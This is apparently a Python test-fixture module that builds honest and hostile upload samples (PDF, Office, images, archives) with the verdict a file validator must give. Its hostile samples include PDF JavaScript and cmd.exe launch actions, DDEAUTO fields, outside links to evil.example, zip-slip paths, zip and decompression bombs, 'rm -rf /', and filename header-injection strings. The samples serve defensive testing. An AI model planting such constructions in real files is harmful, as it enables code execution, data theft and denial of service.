"""Papers, honest and hostile, made on the spot, each with the verdict it must get.

`fault` None: it is taken, as `kind`, under `kept_as` (its own name when not said), and lies in
the store as it came. Other tests (doors, imports) take the same list.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from motcua.files.rules.faults import Fault
from motcua.files.rules.kinds import Kind

MEGABYTE = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    what: str
    name: str
    build: Callable[[], bytes]
    fault: Fault | None = None
    kind: Kind | None = None
    kept_as: str = ""
    pages: int | None = None


# PDF


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **save: Any) -> bytes:
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        if change is not None:
            change(document)
        out = io.BytesIO()
        document.save(out, **save)
    return out.getvalue()


def opens_with(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(action)

    return change


def annotated(annotation: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = Array([annotation])

    return change


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["kem.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="kem.exe")


def _named_script(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))


def _orphan_script(document: pikepdf.Pdf) -> None:
    """Nothing points to it now; an update of a few bytes could."""
    document.Root.Hidden = document.make_indirect(Dictionary(S=Name.JavaScript, JS="1"))


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _page_script(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="1"))


def _plain_links(document: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.URI, URI="https://dichvucong.gov.vn"),
    )
    document.pages[0].Annots = Array([link])
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def escaped_name_pdf() -> bytes:
    """/J#61vaScript is /JavaScript to a reader of PDF, and not to who searches the bytes."""
    return pdf(_orphan_script).replace(b"/JavaScript", b"/J#61vaScript")


def broken_xref_pdf() -> bytes:
    whole = pdf()
    return whole[: whole.rindex(b"startxref")] + b"startxref\n7\n%%EOF"


def plain_pdf(objects: list[bytes]) -> bytes:
    """A PDF put together by hand: object 1 is the catalogue."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    size = len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    out += b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (size, start)
    return bytes(out)


_PAGES = [
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
]


def many_objects_pdf() -> bytes:
    return plain_pdf(_PAGES + [b"<</N 1>>"] * 101_000)


def deep_pdf() -> bytes:
    return plain_pdf([*_PAGES, b"[" * 300 + b"]" * 300])


def looping_pages_pdf() -> bytes:
    return plain_pdf([_PAGES[0], b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])


def stream_bomb_pdf() -> bytes:
    """The catalogue in an object stream that unpacks to 1.5 GB, in 1.5 MB."""
    text = b"1 0 " + _PAGES[0]
    squeeze = zlib.compressobj(9)
    packed = squeeze.compress(text) + squeeze.flush(zlib.Z_FULL_FLUSH)
    blank = squeeze.compress(b" " * MEGABYTE) + squeeze.flush(zlib.Z_FULL_FLUSH)
    packed += blank * 1500 + squeeze.flush()
    out, rows = bytearray(b"%PDF-1.5\n"), [(0, 0, 255), (2, 4, 0)]
    for number, content in enumerate(_PAGES[1:], start=2):
        rows.append((1, len(out), 0))
        out += b"%d 0 obj%sendobj\n" % (number, content)
    rows.append((1, len(out), 0))
    length = len(packed)
    out += b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % length
    out += packed + b"\nendstream endobj\n"
    rows.append((1, len(out), 0))
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    out += b"5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    out += table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % rows[5][1]
    return bytes(out)


# Pictures


def picture(
    format_: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **save: Any
) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 200).save(out, format_, **save)
    return out.getvalue()


def frames(format_: str, count: int) -> bytes:
    out = io.BytesIO()
    first, *rest = [Image.new("L", (8, 8), n % 255) for n in range(count)]
    first.save(out, format_, save_all=True, append_images=rest)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(side: int = 30_000) -> bytes:
    """Nine hundred million points in a hundred kilobytes."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + png_chunk(b"IEND", b"")
    )


def text_bomb_png() -> bytes:
    """A compressed comment that unpacks to 200 MB."""
    whole = picture("PNG")
    bomb = png_chunk(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(200 * MEGABYTE)))
    return whole[:33] + bomb + whole[33:]


def huge_jpeg() -> bytes:
    whole = bytearray(picture("JPEG"))
    place = whole.index(b"\xff\xc0")
    whole[place + 5 : place + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(whole)


def located_jpeg() -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (10.0, 45.0, 30.0)
    return picture("JPEG", exif=exif)


def tiff_past_its_end() -> bytes:
    whole = picture("TIFF", (200, 200))
    with Image.open(io.BytesIO(whole)) as scan:
        place = scan.tag_v2[273][0]  # type: ignore[attr-defined]
    # The directory stands behind the points: move the points out of the file instead.
    return whole.replace(struct.pack("<I", place), struct.pack("<I", len(whole) + 1000), 1)


# Word, Excel and other archives

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-{kind}+xml"/></Types>'
)
_RELATIONS = '<?xml version="1.0"?><Relationships>{}</Relationships>'
_RELATION = (
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/>'
)


def archive(parts: dict[str, bytes | str], **how: Any) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **how) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def office(main: str, more: dict[str, bytes | str] | None = None, types: str = "") -> bytes:
    kind = "officedocument.wordprocessingml.document.main"
    return archive(
        {
            "[Content_Types].xml": types or _TYPES.format(main=main, kind=kind),
            "_rels/.rels": _RELATIONS.format(""),
            main: '<?xml version="1.0"?><w:document>Đơn đề nghị</w:document>',
            **(more or {}),
        }
    )


docx = partial(office, "word/document.xml")
xlsx = partial(office, "xl/workbook.xml")


def linking(kind: str, target: str) -> bytes:
    relations = _RELATIONS.format(_RELATION.format(kind=kind, target=target))
    return docx({"word/_rels/document.xml.rels": relations})


def macro_type() -> bytes:
    return docx(types=_TYPES.format(main="word/document.xml", kind="x.macroEnabled.main"))


def dde_docx() -> bytes:
    field = "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>"
    return docx({"word/header1.xml": field})


def utf16_docx() -> bytes:
    text = '<?xml version="1.0"?><w:instrText>DDEAUTO cmd</w:instrText>'
    return docx({"word/header1.xml": text.encode("utf-16")})


def doctype_docx() -> bytes:
    return docx({"word/header1.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><w:hdr/>"})


def zip_bomb() -> bytes:
    return docx({"word/media/a.bmp": bytes(60 * MEGABYTE)})


def crowded_zip() -> bytes:
    return docx({f"word/media/{n}": b"" for n in range(6_000)})


def overlapping_zip() -> bytes:
    """Two names for the same bytes."""
    whole = bytearray(docx({"word/media/a": b"A" * 500, "word/media/b": b"A" * 500}))
    first = whole.index(b"word/media/a") - 30
    place = whole.rindex(b"word/media/b") - 46
    whole[place + 42 : place + 46] = struct.pack("<I", first)
    return bytes(whole)


def linked_zip() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/media/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked_zip() -> bytes:
    whole = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.index(signature) + place
        whole[at] |= 1
    return bytes(whole)


def twin_zip() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", "<w:document>khác</w:document>")
    return out.getvalue()


def prefixed_docx() -> bytes:
    """A PDF hidden at the head of an archive, uncompressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as made:
        made.writestr("a", pdf())
        made.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def signature(length: int = 200) -> bytes:
    inner = bytes.fromhex("06092a864886f70d010702") + bytes(length)
    return b"\x30\x82" + struct.pack(">H", len(inner)) + inner


def _long_name(stem: str, extension: str) -> tuple[str, str]:
    """A name above 255 bytes, and what is kept of it."""
    room = 255 - len(extension) - 1
    return (
        f"{stem * 300}.{extension}",
        f"{(stem * 300).encode()[:room].decode(errors='ignore')}.{extension}",
    )


LONG_ASCII = _long_name("a", "pdf")
LONG_VIETNAMESE = _long_name("ế", "pdf")

_LAUNCH = Dictionary(S=Name.Launch, F="cmd.exe")
_SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")

HONEST = [
    Sample("PDF of one page", "don.pdf", pdf, kind=Kind.PDF, pages=1),
    Sample("PDF of 300 pages", "so.pdf", partial(pdf, pages=300), kind=Kind.PDF, pages=300),
    Sample(
        "PDF in object streams",
        "a.pdf",
        partial(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF with links and a start page",
        "a.pdf",
        partial(pdf, _plain_links),
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF whose table is broken but read by all",
        "a.pdf",
        broken_xref_pdf,
        kind=Kind.PDF,
        pages=1,
    ),
    Sample(
        "PDF with bytes after its end",
        "a.pdf",
        lambda: pdf() + b"\n% ky so\n",
        kind=Kind.PDF,
        pages=1,
    ),
    Sample("JPEG", "anh.jpg", partial(picture, "JPEG"), kind=Kind.JPEG, pages=1),
    Sample(
        "JPEG called jpeg",
        "anh.JPEG",
        partial(picture, "JPEG"),
        kind=Kind.JPEG,
        kept_as="anh.jpeg",
        pages=1,
    ),
    Sample(
        "JPEG in CMYK", "anh.jpg", partial(picture, "JPEG", mode="CMYK"), kind=Kind.JPEG, pages=1
    ),
    Sample(
        "progressive JPEG",
        "anh.jpg",
        partial(picture, "JPEG", progressive=True),
        kind=Kind.JPEG,
        pages=1,
    ),
    Sample("JPEG that says where it was taken", "anh.jpg", located_jpeg, kind=Kind.JPEG, pages=1),
    Sample(
        "JPEG with a film behind it, as telephones make",
        "anh.jpg",
        lambda: picture("JPEG") + b"\x00\x00\x00\x18ftypmp42" + bytes(500),
        kind=Kind.JPEG,
        pages=1,
    ),
    Sample(
        "JPEG with a web page in its comment: kept inert",
        "anh.jpg",
        partial(picture, "JPEG", comment=b"<html><script>alert(1)</script>"),
        kind=Kind.JPEG,
        pages=1,
    ),
    Sample("PNG", "anh.png", partial(picture, "PNG"), kind=Kind.PNG, pages=1),
    Sample(
        "PNG with transparency",
        "dau.png",
        partial(picture, "PNG", mode="RGBA"),
        kind=Kind.PNG,
        pages=1,
    ),
    Sample("TIFF", "quet.tif", partial(picture, "TIFF"), kind=Kind.TIFF, pages=1),
    Sample("TIFF of five pages", "quet.tiff", partial(frames, "TIFF", 5), kind=Kind.TIFF, pages=5),
    Sample(
        "compressed TIFF",
        "quet.tif",
        partial(picture, "TIFF", compression="tiff_lzw"),
        kind=Kind.TIFF,
        pages=1,
    ),
    Sample("Word", "don.docx", docx, kind=Kind.DOCX),
    Sample("Excel", "bang.xlsx", xlsx, kind=Kind.XLSX),
    Sample(
        "Word with a link to click",
        "don.docx",
        partial(linking, "hyperlink", "https://dichvucong.gov.vn"),
        kind=Kind.DOCX,
    ),
    Sample(
        "Word with a chart's own table",
        "don.docx",
        partial(docx, {"word/embeddings/Bang1.xlsx": b"PK"}),
        kind=Kind.DOCX,
    ),
    Sample("signature", "don.pdf.p7s", signature, kind=Kind.P7S),
    Sample(
        "signature in PEM",
        "ky.p7s",
        lambda: b"-----BEGIN PKCS7-----\nMIIB\n-----END PKCS7-----\n",
        kind=Kind.P7S,
    ),
]

NAMES = [
    Sample("no extension", "giay khai sinh", pdf, kind=Kind.PDF, kept_as="giay khai sinh.pdf"),
    Sample("no name", "", pdf, kind=Kind.PDF, kept_as="giay-to.pdf"),
    Sample("only dots", "...", pdf, kind=Kind.PDF, kept_as="giay-to.pdf"),
    Sample("hidden file", ".htaccess", pdf, kind=Kind.PDF, kept_as="htaccess.pdf"),
    Sample("folder up", "../../etc/passwd", pdf, kind=Kind.PDF, kept_as="passwd.pdf"),
    Sample("Windows path", "C:\\Users\\Hoa\\Đơn.pdf", pdf, kind=Kind.PDF, kept_as="Đơn.pdf"),
    Sample("slash at the end", "don.pdf/", pdf, kind=Kind.PDF, kept_as="giay-to.pdf"),
    Sample("decomposed letters", "Đo\u031bn.pdf", pdf, kind=Kind.PDF, kept_as="Đơn.pdf"),
    Sample("reads backwards", "anh\u202egpj.pdf", pdf, kind=Kind.PDF, kept_as="anhgpj.pdf"),
    Sample("NUL inside", "don\x00.pdf", pdf, kind=Kind.PDF, kept_as="don.pdf"),
    Sample(
        "line break for a header",
        "don\r\nSet-Cookie: a=b.pdf",
        pdf,
        kind=Kind.PDF,
        kept_as="donSet-Cookie_ a=b.pdf",
    ),
    Sample("percent NUL", "don%00.pdf", pdf, kind=Kind.PDF, kept_as="don%00.pdf"),
    Sample("reserved on Windows", "CON.pdf", pdf, kind=Kind.PDF, kept_as="_CON.pdf"),
    Sample("wild characters", 'a<b>:"c"|?*.pdf', pdf, kind=Kind.PDF, kept_as="a_b___c____.pdf"),
    Sample("half a surrogate", "don\ud800.pdf", pdf, kind=Kind.PDF, kept_as="don.pdf"),
    Sample("too long", LONG_ASCII[0], pdf, kind=Kind.PDF, kept_as=LONG_ASCII[1]),
    Sample(
        "too long, three bytes a letter",
        LONG_VIETNAMESE[0],
        pdf,
        kind=Kind.PDF,
        kept_as=LONG_VIETNAMESE[1],
    ),
    Sample(
        "two extensions, the last one true", "anh.exe.jpg", partial(picture, "JPEG"), kind=Kind.JPEG
    ),
    Sample("two extensions, the last one a program", "don.pdf.exe", pdf, Fault.DISGUISED),
    Sample("program that reads as a picture", "anh\u202egpj.exe", pdf, Fault.DISGUISED),
    Sample("extension of a web page", "don.html", pdf, Fault.DISGUISED),
]

HOSTILE = [
    Sample("nothing", "don.pdf", bytes, Fault.EMPTY),
    Sample("one byte", "don.pdf", lambda: b"%", Fault.UNKNOWN_KIND),
    Sample("text", "don.pdf", "Kính gửi".encode, Fault.UNKNOWN_KIND),
    Sample("the virus scanners' test", "eicar.com", lambda: EICAR, Fault.UNKNOWN_KIND),
    Sample("picture called PDF", "don.pdf", partial(picture, "JPEG"), Fault.DISGUISED),
    Sample("PDF called picture", "anh.jpg", pdf, Fault.DISGUISED),
    Sample("Word called Excel", "bang.xlsx", docx, Fault.DISGUISED),
    Sample("Word called with macros", "don.docm", docx, Fault.DISGUISED),
    Sample(
        "Windows program called PDF", "don.pdf", lambda: b"MZ" + bytes(500), Fault.FORBIDDEN_KIND
    ),
    Sample("Linux program", "a.pdf", lambda: b"\x7fELF" + bytes(500), Fault.FORBIDDEN_KIND),
    Sample("shell script", "a.sh", lambda: b"#!/bin/sh\nrm -rf /\n", Fault.FORBIDDEN_KIND),
    Sample(
        "GIF that is also a script",
        "a.gif",
        lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
        Fault.FORBIDDEN_KIND,
    ),
    Sample(
        "SVG with a script",
        "a.svg",
        lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        Fault.FORBIDDEN_KIND,
    ),
    Sample(
        "web page",
        "a.html",
        lambda: b"<!DOCTYPE html><script>alert(1)</script>",
        Fault.FORBIDDEN_KIND,
    ),
    Sample(
        "old Word",
        "a.doc",
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500),
        Fault.FORBIDDEN_KIND,
    ),
    Sample("RAR", "a.rar", lambda: b"Rar!\x1a\x07" + bytes(50), Fault.FORBIDDEN_KIND),
    Sample(
        "HEIC of a telephone",
        "IMG_1.HEIC",
        lambda: b"\x00\x00\x00\x18ftypheic" + bytes(50),
        Fault.FORBIDDEN_KIND,
    ),
    Sample("WebP", "a.webp", partial(picture, "WEBP"), Fault.FORBIDDEN_KIND),
    Sample("film", "a.mp4", lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(50), Fault.FORBIDDEN_KIND),
    Sample("ZIP of papers", "a.zip", partial(archive, {"don.pdf": b"%PDF-"}), Fault.FORBIDDEN_KIND),
    Sample("ZIP called Word", "a.docx", partial(archive, {"a.txt": "a"}), Fault.FORBIDDEN_KIND),
    Sample(
        "ZIP that climbs out",
        "a.docx",
        partial(docx, {"../../etc/cron.d/a": "x"}),
        Fault.ODD_ARCHIVE,
    ),
    Sample(
        "ZIP with an absolute path",
        "a.docx",
        partial(docx, {"/etc/passwd": "x"}),
        Fault.ODD_ARCHIVE,
    ),
    Sample("ZIP with a link out of it", "a.docx", linked_zip, Fault.ODD_ARCHIVE),
    Sample("ZIP with one name twice", "a.docx", twin_zip, Fault.ODD_ARCHIVE),
    Sample("ZIP bomb", "a.docx", zip_bomb, Fault.BOMB),
    Sample("ZIP of 6,000 entries", "a.docx", crowded_zip, Fault.BOMB),
    Sample("ZIP whose entries share bytes", "a.docx", overlapping_zip, Fault.BOMB),
    Sample("ZIP with a password", "a.docx", locked_zip, Fault.ENCRYPTED),
    Sample("half a Word file", "a.docx", lambda: docx()[:300], Fault.DAMAGED),
    Sample(
        "Word with a macro", "a.docx", partial(docx, {"word/vbaProject.bin": b"x"}), Fault.MACRO
    ),
    Sample("Word that says it has macros", "a.docx", macro_type, Fault.MACRO),
    Sample(
        "Word with ActiveX",
        "a.docx",
        partial(docx, {"word/activeX/activeX1.xml": "x"}),
        Fault.MACRO,
    ),
    Sample(
        "Excel with old macros",
        "a.xlsx",
        partial(xlsx, {"xl/macrosheets/sheet1.xml": "x"}),
        Fault.MACRO,
    ),
    Sample(
        "Word with a program in it",
        "a.docx",
        partial(docx, {"word/media/a.exe": b"MZ"}),
        Fault.MACRO,
    ),
    Sample(
        "Word with an object in it",
        "a.docx",
        partial(docx, {"word/embeddings/oleObject1.bin": b"x"}),
        Fault.EMBEDDED_FILE,
    ),
    Sample(
        "Word that loads its template from outside",
        "a.docx",
        partial(linking, "attachedTemplate", "http://evil.example/a.dotm"),
        Fault.OUTSIDE_LINK,
    ),
    Sample(
        "Word that loads a picture from outside",
        "a.docx",
        partial(linking, "image", "http://evil.example/pixel"),
        Fault.OUTSIDE_LINK,
    ),
    Sample("Word that starts a program by DDE", "a.docx", dde_docx, Fault.OUTSIDE_LINK),
    Sample("Word that hides it in UTF-16", "a.docx", utf16_docx, Fault.ODD_ARCHIVE),
    Sample("Word with a DOCTYPE", "a.docx", doctype_docx, Fault.ODD_ARCHIVE),
    Sample(
        "Excel linked to another",
        "a.xlsx",
        partial(xlsx, {"xl/externalLinks/externalLink1.xml": "x"}),
        Fault.OUTSIDE_LINK,
    ),
    Sample("PDF and ZIP in one", "a.pdf", lambda: pdf() + docx(), Fault.TWO_FILES_IN_ONE),
    Sample(
        "JPEG and Java archive in one",
        "a.jpg",
        lambda: picture("JPEG") + archive({"A.class": "x"}),
        Fault.TWO_FILES_IN_ONE,
    ),
    Sample("Word with a PDF at its head", "a.docx", prefixed_docx, Fault.TWO_FILES_IN_ONE),
    Sample(
        "PDF with a password",
        "a.pdf",
        partial(pdf, encryption=pikepdf.Encryption(owner="o", user="u")),
        Fault.ENCRYPTED,
    ),
    Sample(
        "PDF that may not be printed",
        "a.pdf",
        partial(pdf, encryption=pikepdf.Encryption(owner="o", user="")),
        Fault.ENCRYPTED,
    ),
    Sample(
        "PDF that runs a script when opened",
        "a.pdf",
        partial(pdf, opens_with(_SCRIPT)),
        Fault.SCRIPT,
    ),
    Sample("PDF with a named script", "a.pdf", partial(pdf, _named_script), Fault.SCRIPT),
    Sample("PDF with a script on a page", "a.pdf", partial(pdf, _page_script), Fault.SCRIPT),
    Sample(
        "PDF with a script nobody calls yet", "a.pdf", partial(pdf, _orphan_script), Fault.SCRIPT
    ),
    Sample("PDF that spells its script in another way", "a.pdf", escaped_name_pdf, Fault.SCRIPT),
    Sample("PDF that starts a program", "a.pdf", partial(pdf, opens_with(_LAUNCH)), Fault.LAUNCH),
    Sample(
        "PDF that sends its form away",
        "a.pdf",
        partial(pdf, opens_with(Dictionary(S=Name.SubmitForm, F="http://evil.example"))),
        Fault.LAUNCH,
    ),
    Sample(
        "PDF that opens another within",
        "a.pdf",
        partial(pdf, opens_with(Dictionary(S=Name.GoToE))),
        Fault.LAUNCH,
    ),
    Sample("PDF with a file attached", "a.pdf", partial(pdf, _attach), Fault.EMBEDDED_FILE),
    Sample(
        "PDF with a file pinned to a page",
        "a.pdf",
        partial(
            pdf,
            annotated(
                Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
            ),
        ),
        Fault.EMBEDDED_FILE,
    ),
    Sample(
        "PDF with a film",
        "a.pdf",
        partial(
            pdf,
            annotated(
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
            ),
        ),
        Fault.EMBEDDED_FILE,
    ),
    Sample("PDF with a moving form", "a.pdf", partial(pdf, _xfa), Fault.XFA),
    Sample("PDF of 2,001 pages", "a.pdf", partial(pdf, pages=2001), Fault.TOO_MANY_PAGES),
    Sample("PDF without pages", "a.pdf", partial(pdf, pages=0), Fault.DAMAGED),
    Sample("head of a PDF only", "a.pdf", lambda: b"%PDF-1.7\n", Fault.DAMAGED),
    Sample(
        "noise after the head of a PDF",
        "a.pdf",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
        Fault.DAMAGED,
    ),
    Sample("PDF with 101,000 objects", "a.pdf", many_objects_pdf, Fault.TOO_COMPLEX),
    Sample("PDF nested 300 deep", "a.pdf", deep_pdf, Fault.TOO_COMPLEX),
    Sample("PDF whose pages go in a circle", "a.pdf", looping_pages_pdf, Fault.DAMAGED),
    Sample("PDF that unpacks to 1.5 GB", "a.pdf", stream_bomb_pdf, Fault.DAMAGED),
    Sample("PNG of 900 million points", "a.png", huge_png, Fault.TOO_MANY_PIXELS),
    Sample("JPEG of 4 billion points", "a.jpg", huge_jpeg, Fault.TOO_MANY_PIXELS),
    Sample("PNG cut short", "a.png", lambda: picture("PNG", (300, 300))[:-30], Fault.DAMAGED),
    Sample(
        "PNG with a wrong sum",
        "a.png",
        lambda: picture("PNG").replace(b"IDAT", b"IDAT\x00", 1),
        Fault.DAMAGED,
    ),
    Sample("PNG that moves", "a.png", partial(frames, "PNG", 3), Fault.MOVING_PICTURE),
    Sample("PNG with a bomb for a comment", "a.png", text_bomb_png, Fault.DAMAGED),
    Sample("JPEG cut short", "a.jpg", lambda: picture("JPEG", (300, 300))[:-200], Fault.TRUNCATED),
    Sample("head of a JPEG only", "a.jpg", lambda: b"\xff\xd8\xff\xe0", Fault.DAMAGED),
    Sample("TIFF whose points lie past its end", "a.tif", tiff_past_its_end, Fault.TRUNCATED),
    Sample("TIFF of nothing", "a.tif", lambda: b"II*\x00" + bytes(40), Fault.DAMAGED),
    Sample(
        "certificate called signature",
        "a.p7s",
        lambda: b"\x30\x82\x01\x00" + bytes(256),
        Fault.UNKNOWN_KIND,
    ),
    Sample("signature cut short", "a.p7s", lambda: signature()[:-10], Fault.UNKNOWN_KIND),
]

ALL = [*HONEST, *NAMES, *HOSTILE]
